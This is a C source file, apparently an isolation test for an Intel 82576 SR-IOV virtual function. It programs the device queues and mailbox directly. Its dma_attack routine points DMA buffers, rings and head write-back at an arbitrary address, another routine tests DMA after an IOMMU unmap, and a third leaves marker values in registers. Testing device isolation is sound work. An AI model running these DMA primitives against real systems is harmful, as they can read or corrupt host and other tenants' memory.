// SPDX-License-Identifier: GPL-2.0

#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "dma.h"

/* Registers of queue n (82576 datasheet 8.10, 8.12), as a VF sees them. */
#define RX(n, r) (0x2800 + 0x100 * (n) + (r))
#define TX(n, r) (0x3800 + 0x100 * (n) + (r))
#define BAL 0x00
#define BAH 0x04
#define LEN 0x08
#define SRRCTL 0x0c
#define HEAD 0x10
#define DCA 0x14
#define TAIL 0x18
#define DCTL 0x28
#define WBAL 0x38
#define WBAH 0x3c
#define PSRTYPE 0xf0c
#define DCTL_ENABLE (1u << 25)
/* One buffer, advanced descriptors, 2 KiB. */
#define SRRCTL_ONE_BUFFER (1u << 25 | 2)

#define RING 16
#define FRAME 256

/* Places in the arena. */
#define TX_RING 0x0
#define RX_RING 0x1000
#define TX_BUFFER 0x10000
#define RX_BUFFER 0x20000

struct descriptor {
	uint64_t address;
	uint32_t command;
	uint32_t status;
};

static struct descriptor *ring(struct function *f, unsigned int place)
{
	return (struct descriptor *)(f->arena + place);
}

static void queue_start(struct function *f, uint64_t tx, uint64_t rx, uint64_t head)
{
	reg_write(f, TX(0, DCTL), 0);
	reg_write(f, RX(0, DCTL), 0);
	reg_write(f, TX(0, BAL), (uint32_t)tx);
	reg_write(f, TX(0, BAH), (uint32_t)(tx >> 32));
	reg_write(f, TX(0, LEN), RING * sizeof(struct descriptor));
	reg_write(f, TX(0, HEAD), 0);
	reg_write(f, TX(0, TAIL), 0);
	reg_write(f, TX(0, WBAL), head ? (uint32_t)head | 1 : 0);
	reg_write(f, TX(0, WBAH), (uint32_t)(head >> 32));
	reg_write(f, RX(0, BAL), (uint32_t)rx);
	reg_write(f, RX(0, BAH), (uint32_t)(rx >> 32));
	reg_write(f, RX(0, LEN), RING * sizeof(struct descriptor));
	reg_write(f, RX(0, SRRCTL), SRRCTL_ONE_BUFFER);
	reg_write(f, RX(0, HEAD), 0);
	reg_write(f, RX(0, TAIL), 0);
	reg_write(f, TX(0, DCTL), DCTL_ENABLE);
	reg_write(f, RX(0, DCTL), DCTL_ENABLE);
}

/* A broadcast: the device brings it back to its sender, and to the others, who do not know the type. */
static void frame(struct function *f, uint8_t fill)
{
	uint8_t *data = f->arena + TX_BUFFER;

	memset(data, fill, FRAME);
	memset(data, 0xff, 6);
	memcpy(data + 6, "\x02\x82\x57\x66\x00\x00\x88\xb5", 8);
}

static void send(struct function *f, unsigned int slot, uint64_t address, struct deeds *d)
{
	/* Data descriptor, EOP, IFCS, RS, DEXT. */
	ring(f, TX_RING)[slot] = (struct descriptor){ address, 0x2b300000u | FRAME, (uint32_t)FRAME << 14 };
	reg_write(f, TX(0, TAIL), (slot + 1) % RING);
	d->writes++;
}

static void receive(struct function *f, uint64_t address)
{
	for (unsigned int i = 0; i < RING; i++)
		ring(f, RX_RING)[i] = (struct descriptor){ address, 0, 0 };
	reg_write(f, RX(0, TAIL), RING - 1);
}

/* The PF lets the queues run after RESET only, and only a sender that has an address may send. */
static bool let_in(struct function *f, struct deeds *d)
{
	uint32_t reply[WORDS];

	reg_write(f, V2P, 0);
	if (!mailbox_ask(f, MSG_RESET, 0, 0, reply, &d->tally))
		return false;
	return mailbox_ask(f, MSG_SET_MAC, 0x66578202, 0, reply, &d->tally) || (reply[0] & MSG_NACK);
}

void dma_attack(struct function *f, uint64_t address, struct deeds *d)
{
	const uint64_t arena = ARENA_IOVA;

	let_in(f, d);
	frame(f, 0x11);
	/* A buffer to send is elsewhere: read. */
	queue_start(f, arena + TX_RING, arena + RX_RING, 0);
	receive(f, arena + RX_BUFFER);
	send(f, 0, address, d);
	/* A buffer to receive into is elsewhere: write. */
	receive(f, address);
	for (unsigned int i = 1; i < 4; i++)
		send(f, i, arena + TX_BUFFER, d);
	/* The rings are: read and write. */
	queue_start(f, address & ~0x7full, arena + RX_RING, 0);
	receive(f, arena + RX_BUFFER);
	send(f, 0, arena + TX_BUFFER, d);
	queue_start(f, arena + TX_RING, address & ~0x7full, 0);
	receive(f, arena + RX_BUFFER);
	send(f, 0, arena + TX_BUFFER, d);
	/* Where the head goes is: write. */
	queue_start(f, arena + TX_RING, arena + RX_RING, address & ~0x3ull);
	receive(f, arena + RX_BUFFER);
	send(f, 0, arena + TX_BUFFER, d);
	usleep(20000);
	queue_start(f, arena + TX_RING, arena + RX_RING, 0);
	reg_write(f, TX(0, DCTL), 0);
	reg_write(f, RX(0, DCTL), 0);
}

static bool came(struct function *f)
{
	for (int tries = 0; tries < 100; tries++) {
		for (unsigned int i = 0; i < RING; i++)
			if (!memcmp(f->arena + RX_BUFFER + i * 2048, f->arena + TX_BUFFER, FRAME))
				return true;
		usleep(10000);
	}
	return false;
}

bool dma_works(struct function *f, struct deeds *d)
{
	if (!let_in(f, d))
		return false;
	memset(f->arena, 0, ARENA_SIZE);
	frame(f, 0x77);
	queue_start(f, ARENA_IOVA + TX_RING, ARENA_IOVA + RX_RING, 0);
	for (unsigned int i = 0; i < RING; i++)
		ring(f, RX_RING)[i] = (struct descriptor){ ARENA_IOVA + RX_BUFFER + i * 2048ull, 0, 0 };
	reg_write(f, RX(0, TAIL), RING - 1);
	/* Twice: the first may end a frame that an attack began. */
	send(f, 0, ARENA_IOVA + TX_BUFFER, d);
	send(f, 1, ARENA_IOVA + TX_BUFFER, d);
	return came(f);
}

unsigned int dma_after_unmap(struct function *f, struct deeds *d)
{
	unsigned int seen = 0;

	/* The translation is in the IOMMU's cache now. */
	if (!dma_works(f, d))
		return ~0u;
	memset(f->arena + RX_BUFFER, 0, RING * 2048);
	arena_unmap(f);
	for (unsigned int i = 2; i < RING - 1; i++)
		send(f, i, ARENA_IOVA + TX_BUFFER, d);
	usleep(100000);
	for (unsigned int i = 0; i < RING; i++)
		seen += f->arena[RX_BUFFER + i * 2048] != 0;
	reg_write(f, TX(0, DCTL), 0);
	reg_write(f, RX(0, DCTL), 0);
	arena_map(f);
	return seen;
}

static const struct {
	const char *name;
	unsigned int rx;
	unsigned int tx;
} registers[] = {
	{ "BAL", BAL, BAL }, { "BAH", BAH, BAH }, { "LEN", LEN, LEN }, { "SRRCTL", SRRCTL, 0 }, { "DCA", DCA, DCA },
	{ "DCTL", DCTL, DCTL }, { "WBAL", 0, WBAL }, { "WBAH", 0, WBAH },
};

#define REGISTERS (sizeof(registers) / sizeof(registers[0]))

void dirt_leave(struct function *f, struct deeds *d)
{
	uint32_t reply[WORDS];

	let_in(f, d);
	mailbox_ask(f, MSG_SET_VLAN | 1 << 16, 0x66, 0, reply, &d->tally);
	mailbox_ask(f, MSG_SET_MAC | 2 << 16, 0x66578202, 0x6600, reply, &d->tally);
	mailbox_ask(f, MSG_SET_MULTICAST | 1 << 16, 0x666, 0, reply, &d->tally);
	mailbox_ask(f, MSG_SET_LPE, 9000, 0, reply, &d->tally);
	for (unsigned int n = 0; n < 2; n++) {
		for (unsigned int i = 0; i < REGISTERS; i++) {
			if (registers[i].rx || !i)
				reg_write(f, RX(n, registers[i].rx), 0x66666666u & ~DCTL_ENABLE);
			if (registers[i].tx || !i)
				reg_write(f, TX(n, registers[i].tx), 0x66666666u & ~DCTL_ENABLE);
		}
		reg_write(f, RX(n, DCTL), DCTL_ENABLE | 0x060606);
		reg_write(f, TX(n, DCTL), DCTL_ENABLE | 0x060606);
	}
	reg_write(f, PSRTYPE, 0x66666666);
}

void dirt_print(struct function *f)
{
	for (unsigned int n = 0; n < 2; n++)
		for (unsigned int i = 0; i < REGISTERS; i++) {
			if (registers[i].rx || !i)
				printf("\"RX%s%u\": %u, ", registers[i].name, n, reg_read(f, RX(n, registers[i].rx)));
			if (registers[i].tx || !i)
				printf("\"TX%s%u\": %u, ", registers[i].name, n, reg_read(f, TX(n, registers[i].tx)));
		}
	printf("\"PSRTYPE\": %u, ", reg_read(f, PSRTYPE));
}
